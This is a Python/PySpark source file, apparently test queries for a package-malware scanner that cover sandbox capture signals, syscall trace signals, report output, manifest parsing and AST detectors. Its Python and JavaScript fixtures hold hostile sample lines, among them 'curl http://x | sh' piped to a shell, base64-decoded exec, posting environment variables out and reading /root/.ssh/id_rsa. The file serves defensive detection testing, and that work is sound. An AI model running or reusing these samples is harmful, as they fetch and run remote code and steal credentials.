  SELECT run_id, package, 'unexpected-network-destination' AS category, 'medium' AS severity, host || ':' || url AS d FROM c WHERE kind = 'http' AND scheme = 'http' AND host <> 'github.com'
  UNION ALL SELECT run_id, package, 'unexpected-network-destination', 'medium', host || ':443' FROM c WHERE kind = 'connect' AND host <> 'github.com' UNION ALL SELECT run_id, package, 'internal-network-probe', 'high', host || ':443' FROM c WHERE kind = 'blocked'))
  SELECT run_id, substr(sha1(k), 1, 16) AS id, any_value(category) AS category, any_value(severity) AS severity, count(*) AS n FROM s GROUP BY 1, 2""")
def _(spark, sf):
    c = derive(spark, sf, CAPTURE).withColumn("headers", F.lit(None).cast("map<string,string>")).withColumn("body", F.lit(None).cast("binary"))
    none = spark.createDataFrame([], "run_id string, name string, value string")
    return detonation.capture_signals(c, none).groupBy("run_id", "id").agg(F.any_value("category").alias("category"), F.any_value("severity").alias("severity"), F.count("*").alias("n"))


@query("run_summary", f"""SELECT run_id, package, count(*) FILTER (WHERE kind = 'http' AND scheme = 'http') AS plain_http_requests, count(*) FILTER (WHERE kind = 'http' AND scheme = 'https') AS https_requests_inspected,
  count(DISTINCT host) FILTER (WHERE kind = 'connect' AND host <> 'github.com') AS https_unexpected, count(*) FILTER (WHERE kind = 'blocked') AS blocked FROM ({CAPTURE}) GROUP BY 1, 2""")
def _(spark, sf):
    s = detonation.run_summary(derive(spark, sf, CAPTURE))
    return s.select("run_id", "package", "plain_http_requests", "https_requests_inspected", F.size("https_unexpected").cast("long").alias("https_unexpected"), F.size("blocked").cast("long").alias("blocked"))


TRACE = """SELECT 'run' || CAST(user_id % 50 AS STRING) AS run_id, 'pkg' AS package, CAST(event_id AS BIGINT) AS seq, CASE CAST(event_id % 7 AS INT) WHEN 0 THEN '12 execve("/bin/sh", ["sh", "-c", "x"], 0x0) = 0' WHEN 1 THEN '12 openat(AT_FDCWD, "/home/u' || CAST(user_id % 5 AS STRING) || '/.ssh/id_rsa", O_RDONLY) = -1'
  WHEN 2 THEN '13 openat(AT_FDCWD, "/root/.bashrc", O_WRONLY|O_CREAT) = 3' WHEN 3 THEN '13 connect(3, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("93.184.216.' || CAST(user_id % 5 AS STRING) || '")}, 16) = -1' WHEN 4 THEN 'noise' WHEN 5 THEN '14 unlink("/trace/trace.log") = 0' ELSE '15 openat(AT_FDCWD, "/usr/lib/x.so", O_RDONLY) = 4' END AS line, event_id, user_id FROM events"""


@query("trace_once_per_target", f"""SELECT run_id, category, key, min(seq) AS seq FROM (SELECT run_id, seq, CASE CAST(event_id % 7 AS INT) WHEN 1 THEN 'sensitive-file-access' WHEN 2 THEN 'persistence-attempt' WHEN 3 THEN 'proxy-bypass-attempt' WHEN 5 THEN 'trace-interference' END AS category,
  CASE CAST(event_id % 7 AS INT) WHEN 1 THEN '/home/u' || CAST(user_id % 5 AS STRING) || '/.ssh/id_rsa' WHEN 2 THEN '/root/.bashrc' WHEN 3 THEN '93.184.216.' || CAST(user_id % 5 AS STRING) || ':443' WHEN 5 THEN '/trace/trace.log' END AS key FROM ({TRACE})) WHERE category IS NOT NULL GROUP BY 1, 2, 3""")
def _(spark, sf):
    return detonation.trace_signals(derive(spark, sf, TRACE)).select("run_id", "category", F.col("detail").alias("key"), "seq")


@query("trace_summary", f"SELECT run_id, count(*) FILTER (WHERE line <> 'noise') AS events, CASE WHEN bool_or(event_id % 7 = 0) THEN '/bin/sh: sh -c x' END AS processes FROM ({TRACE}) GROUP BY 1 HAVING events > 0")
def _(spark, sf):
    return detonation.trace_summary(derive(spark, sf, TRACE)).select("run_id", "events", F.when(F.size("processes") > 0, F.array_join("processes", "; ")).alias("processes"))


# ---- reports ----

@query("csv_rows", f"""SELECT j.package, j.version, j.verdict, CASE WHEN j.ignored THEN 'yes' ELSE 'no' END AS ignored, coalesce(s.severity, '') AS severity, coalesce(s.category, '') AS category, CASE WHEN s.ord IS NULL THEN '' ELSE '''=' || s.ord::VARCHAR END AS evidence, coalesce(j.scan_error, '') AS scan_error
  FROM ({VERDICTS}) j LEFT JOIN ({SIGNALS}) s USING (ecosystem, package, version)""")
def _(spark, sf):
    s = signals(spark, sf).select("*", F.lit("d").alias("description"), F.array(F.struct(F.concat(F.lit("="), F.col("ord").cast("string")).alias("excerpt"), F.lit(None).cast("string").alias("file"), F.lit(None).cast("int").alias("line"), F.lit(None).cast("string").alias("detail"))).alias("evidence"))
    return reports.csv_rows(judged(spark, sf), s).select("package", "version", "verdict", "ignored", "severity", "category", "evidence", "scan_error")


@query("sarif_results", f"""SELECT j.package, j.version, s.category AS rule_id, CASE s.sev_rank WHEN 3 THEN 'error' WHEN 2 THEN 'error' WHEN 1 THEN 'warning' ELSE 'note' END AS level, 'npm:' || j.package || '@' || j.version || ':' || s.ord::VARCHAR || ':0' AS fingerprint FROM ({VERDICTS}) j JOIN ({SIGNALS}) s USING (ecosystem, package, version)
  UNION ALL SELECT package, version, 'unscanned-package', 'note', 'npm:' || package || '@' || version || ':unscanned' FROM ({VERDICTS}) WHERE scan_error IS NOT NULL AND NOT ignored""")
def _(spark, sf):
    s = signals(spark, sf).select("*", F.col("ord").cast("string").alias("id"), F.lit("d").alias("description"), F.array(text.piece(F.lit("e"), F.lit("a.js"), F.lit(3))).alias("evidence"))
    return reports.sarif_results(judged(spark, sf).withColumn("ignore_reason", F.lit(None).cast("string")), s).select("package", "version", "rule_id", "level", "fingerprint")


@query("terminal_summary", f"""SELECT count(*) FILTER (WHERE NOT ignored AND verdict = 'malicious') AS malicious, count(*) FILTER (WHERE NOT ignored AND verdict = 'suspicious') AS suspicious, count(*) FILTER (WHERE NOT ignored AND verdict = 'unscanned') AS unscanned, count(*) FILTER (WHERE NOT ignored AND verdict = 'clean') AS clean, count(*) FILTER (WHERE ignored) AS ignored,
  CASE WHEN bool_or(NOT ignored AND verdict = 'malicious') THEN 'malicious' WHEN bool_or(NOT ignored AND verdict = 'suspicious') THEN 'suspicious' WHEN bool_or(NOT ignored AND verdict = 'unscanned') THEN 'unscanned' ELSE 'clean' END AS overall, CASE WHEN bool_or(NOT ignored AND verdict = 'malicious') THEN 1 WHEN bool_or(NOT ignored AND verdict = 'unscanned') THEN 2 ELSE 0 END AS exit_code FROM ({VERDICTS})""")
def _(spark, sf):
    return reports.terminal_summary(judged(spark, sf))


@query("sanitize_text", r"SELECT doc_id, md5(replace(replace(text, chr(13), ''), chr(9) || '', chr(9))) AS digest FROM documents")
def _(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet")
    dirty = F.concat(F.lit("\x1b[31m"), "text", F.lit("\x1b]0;t\x07\x00\x1b[0m\x7f"))
    return docs.select("doc_id", F.md5(F.encode(text.sanitize(dirty), "UTF-8")).alias("digest"))


@query("formula_guard", "SELECT c_custkey, CASE WHEN c_custkey % 2 = 0 THEN '''-' ELSE '' END || c_name AS cell FROM customer")
def _(spark, sf):
    c = spark.read.parquet(f"{sf}/customer.parquet")
    return c.select("c_custkey", text.formula_guard(F.when(F.col("c_custkey") % 2 == 0, F.concat(F.lit("-"), "c_name")).otherwise(F.col("c_name"))).alias("cell"))


@query("markdown_escape", "SELECT p_partkey, '\\*' || p_name || '\\_\\#' AS cell FROM part")
def _(spark, sf):
    return spark.read.parquet(f"{sf}/part.parquet").select("p_partkey", text.escape_markdown(F.concat(F.lit("*"), "p_name", F.lit("_#"))).alias("cell"))


# ---- manifests ----

PROJECTS = "SELECT CAST(p_partkey % 20 AS STRING) AS project, p_partkey AS k, replace(p_name, ' ', '-') || CAST(p_partkey AS STRING) AS name, CAST(p_size AS STRING) || '.0.1' AS version FROM part"


def _project_files(spark, sf):
    rows = derive(spark, sf, PROJECTS)
    entry = F.concat(F.lit('"node_modules/a/node_modules/'), "name", F.lit('":{"version":"'), "version", F.lit('"}'))
    lock = rows.groupBy("project").agg(F.concat(F.lit('{"packages":{"":{"name":"root","version":"0"},'), F.array_join(F.collect_list(entry), ","), F.lit("}}")).alias("content"))
    return lock.select("project", F.lit("package-lock.json").alias("path"), "content")


@query("lockfile_npm", f"SELECT DISTINCT project, 'npm' AS ecosystem, name, version FROM ({PROJECTS})")
def _(spark, sf):
    return manifests.npm_dependencies(_project_files(spark, sf))


@query("requirements_parse", f"SELECT DISTINCT project, 'pypi' AS ecosystem, lower(name) AS name, CASE k % 3 WHEN 0 THEN version WHEN 1 THEN '>=' || version ELSE 'unpinned' END AS version FROM ({PROJECTS})")
def _(spark, sf):
    rows = derive(spark, sf, PROJECTS)
    line = F.when(F.col("k") % 3 == 0, F.concat("name", F.lit("[x] == "), "version", F.lit(" ; python_version > '3'"))).when(F.col("k") % 3 == 1, F.concat("name", F.lit(" >= "), "version", F.lit("  # why"))).otherwise(F.col("name"))
    files = rows.groupBy("project").agg(F.concat(F.lit("# head\n--index-url x\n"), F.array_join(F.collect_list(line), "\n")).alias("content")).select("project", F.lit("requirements.txt").alias("path"), "content")
    return manifests.python_dependencies(files)


@query("dependencies_resolved", f"SELECT project, CAST(row_number() OVER (PARTITION BY project ORDER BY name, version) - 1 AS INT) AS ord, name, version FROM (SELECT DISTINCT project, name, version FROM ({PROJECTS}))")
def _(spark, sf):
    return manifests.resolve(_project_files(spark, sf)).select("project", "ord", "name", "version")


@query("lifecycle_scripts", "SELECT 'p' || p_partkey::VARCHAR AS package, 'postinstall' AS step, 'node ' || p_partkey::VARCHAR AS command FROM part WHERE p_partkey % 3 = 0")
def _(spark, sf):
    p = spark.read.parquet(f"{sf}/part.parquet")
    value = F.when(F.col("p_partkey") % 3 == 0, F.concat(F.lit('"node '), F.col("p_partkey").cast("string"), F.lit('"'))).when(F.col("p_partkey") % 3 == 1, F.lit("123")).otherwise(F.lit('["a"]'))
    meta = p.select(F.lit("npm").alias("ecosystem"), F.concat(F.lit("p"), F.col("p_partkey").cast("string")).alias("package"), F.lit("1").alias("version"), F.concat(F.lit('{"scripts":{"test":"x","postinstall":'), value, F.lit("}}")).alias("package_json"))
    return manifests.lifecycle_scripts(meta).select("package", "step", "command")


@query("artifact_integrity", "SELECT doc_id, doc_id % 3 <> 1 AS intact FROM documents")
def _(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet").withColumn("content", F.encode("text", "UTF-8"))
    sri = F.concat(F.lit("sha512-"), text.unbroken_base64(F.unhex(F.sha2("content", 512))))
    rows = docs.select("doc_id", "content", F.when(F.col("doc_id") % 3 == 0, sri).when(F.col("doc_id") % 3 == 1, F.lit("sha256-AAAA")).alias("integrity"), F.when(F.col("doc_id") % 3 == 2, F.sha1("content")).alias("shasum"))
    return manifests.verify_integrity(rows).select("doc_id", "intact")


URLS = "SELECT 'pypi' AS ecosystem, 'p' || CAST(l_orderkey AS STRING) AS package, '1' AS version, CAST(l_linenumber AS INT) AS ord, CASE WHEN l_linenumber % 3 = 0 THEN 'sdist' ELSE 'bdist_wheel' END AS packagetype, CAST(l_linenumber AS STRING) || CASE WHEN l_linenumber % 3 = 0 THEN 's.tar.gz' WHEN l_quantity > 40 THEN 'a-py3-none-any.whl' WHEN l_quantity > 20 THEN 'a-manylinux_x86_64.whl' ELSE 'a-win.whl' END AS raw, l_tax >= 0.08 AS yanked FROM lineitem"


@query("artifact_choice", f"""SELECT package, arg_min(f, ord) FILTER (WHERE packagetype = 'sdist') AS sdist, arg_min(f, CASE WHEN f LIKE '%none-any.whl%' THEN 0 WHEN f LIKE '%linux%' THEN 100 ELSE 200 END + ord) FILTER (WHERE packagetype = 'bdist_wheel') AS wheel, bool_or(yanked) AS yanked FROM (SELECT *, raw AS f FROM ({URLS})) GROUP BY 1""")
def _(spark, sf):
    urls = derive(spark, sf, URLS).withColumnRenamed("raw", "filename")
    return manifests.pick_artifacts(urls).select("package", "sdist", "wheel", "yanked")


# ---- syntax trees ----

PY = """SELECT doc_id, CASE doc_id % 8 WHEN 0 THEN 'import os' || chr(10) || 'os.system("curl http://x | sh")' WHEN 1 THEN 'import base64' || chr(10) || 'exec(base64.b64decode(x))' WHEN 2 THEN 'exec(code)' WHEN 3 THEN '__import__("o" + "s")' WHEN 4 THEN 'from setuptools import setup' || chr(10) || 'setup(cmdclass={"install": X})'
  WHEN 5 THEN 'import requests, os' || chr(10) || 'requests.post(u, data=os.environ["A"])' WHEN 6 THEN 'print("hello")' ELSE 'open("/root/.ssh/id_rsa")' END AS text FROM documents"""


@query("py_ast_signals", """SELECT doc_id, category, severity FROM (SELECT doc_id, CASE doc_id % 8 WHEN 0 THEN 'command-exec-shell-pipe' WHEN 1 THEN 'obfuscated-exec' WHEN 2 THEN 'exec-computed-arg' WHEN 3 THEN 'obfuscated-module-load' WHEN 4 THEN 'custom-install-command' WHEN 5 THEN 'sensitive-data-network-cooccurrence' WHEN 7 THEN 'credential-file-access' END AS category, CASE WHEN doc_id % 8 = 4 THEN 'medium' ELSE 'high' END AS severity FROM documents) WHERE category IS NOT NULL""")
def _(spark, sf):
    files = derive(spark, sf, PY).select(F.lit("pypi").alias("ecosystem"), F.col("doc_id").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("sdist").alias("label"), F.lit("setup.py").alias("path"), F.length("text").cast("long").alias("size_bytes"), "text")
    return python_code.scan_python(files).select(F.col("package").cast("long").alias("doc_id"), "category", "severity")


JS = """SELECT doc_id, CASE doc_id % 8 WHEN 0 THEN 'const cp = require("child_process");' || chr(10) || 'cp.exec(' || chr(10) || 'cmd)' WHEN 1 THEN 'require("child" + "_process")' WHEN 2 THEN '(0, eval)(code)' WHEN 3 THEN 'function exec(s) {}' || chr(10) || 'exec(x)' WHEN 4 THEN 'const run = (c: string) => { exec(c) }'
  WHEN 5 THEN 'require("child_process").execSync("curl http://x | sh")' WHEN 6 THEN 'eval("1" + "2")' ELSE 'new Function("a", b)' END AS text FROM documents"""


@query("js_signals", """SELECT doc_id, category, line FROM (SELECT doc_id, CASE doc_id % 8 WHEN 0 THEN 'command-exec-computed-arg' WHEN 1 THEN 'obfuscated-module-load' WHEN 2 THEN 'eval-computed-arg' WHEN 4 THEN 'command-exec-computed-arg' WHEN 5 THEN 'command-exec-shell-pipe' WHEN 7 THEN 'eval-computed-arg' END AS category, CASE WHEN doc_id % 8 = 0 THEN 2 ELSE 1 END AS line FROM documents) WHERE category IS NOT NULL""")
def _(spark, sf):
    files = derive(spark, sf, JS).select(F.lit("npm").alias("ecosystem"), F.col("doc_id").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("a.js").alias("path"), "text")
    return js_code.scan_with_trees(files).select(F.col("package").cast("long").alias("doc_id"), "category", F.col("evidence")[0]["line"].alias("line"))


TREES = "SELECT 'pypi' AS ecosystem, 'p' || CAST(p_size AS STRING) AS package, '1' AS version, CASE WHEN p_partkey % 2 = 0 THEN 'wheel' ELSE 'sdist' END AS label, 'pkg' || CAST(p_partkey % 10 AS STRING) || '/__init__.py' AS path, CAST(10 AS BIGINT) AS size_bytes, 'x = 1' AS text FROM part"


@query("wheel_sdist_mismatch", f"""WITH t AS (SELECT DISTINCT package, label, path FROM ({TREES})), m AS (SELECT package, path FROM t w WHERE label = 'wheel' AND NOT EXISTS (SELECT 1 FROM t s WHERE s.package = w.package AND s.path = w.path AND s.label = 'sdist') AND EXISTS (SELECT 1 FROM t s WHERE s.package = w.package AND s.label = 'sdist'))
  SELECT package, 'medium' AS severity, array_to_string(list_sort(list(path))[1:8], ', ') AS excerpt FROM m GROUP BY 1""")
def _(spark, sf):
    return python_code.mismatches(derive(spark, sf, TREES)).select("package", "severity", "excerpt")


# ---- streams ----

def _events_stream(spark, sf):
    schema = spark.read.parquet(f"{sf}/events.parquet").schema
    return spark.readStream.schema(schema).option("pathGlobFilter", "events*.parquet").parquet(sf if spark.read.format("binaryFile").load(f"{sf}/events.parquet").count() == 1 else f"{sf}/events.parquet")


def _checkpoint(spark) -> str:
    import uuid

    from assayer.plans.shared import shared_dir

    return f"{shared_dir(spark)}/streams-{uuid.uuid4().hex}"


@query("stream_capture_dedup", "SELECT DISTINCT user_id, event_type FROM events")
def _(spark, sf):
    from assayer.streaming.capture import drain, once

    rows = once(_events_stream(spark, sf).withColumn("ts", F.col("ts").cast("timestamp")), ["user_id", "event_type"], "3650 days").select("user_id", "event_type")
    return drain(rows, "dedup", _checkpoint(spark))


@query("stream_windows", "SELECT epoch(time_bucket(INTERVAL '1 hour', ts))::BIGINT AS window_start, event_type, count(*) AS n FROM events GROUP BY 1, 2")
def _(spark, sf):
    from assayer.streaming.capture import drain, windowed

    rows = windowed(_events_stream(spark, sf).withColumn("ts", F.col("ts").cast("timestamp")), ["event_type"], "1 hour", "1 hour")
    return drain(rows, "windows", _checkpoint(spark), "complete").select(F.unix_seconds("window_start").alias("window_start"), "event_type", "n")


from assayer import queries_scan  # noqa: E402, F401 - more queries, registered by being read
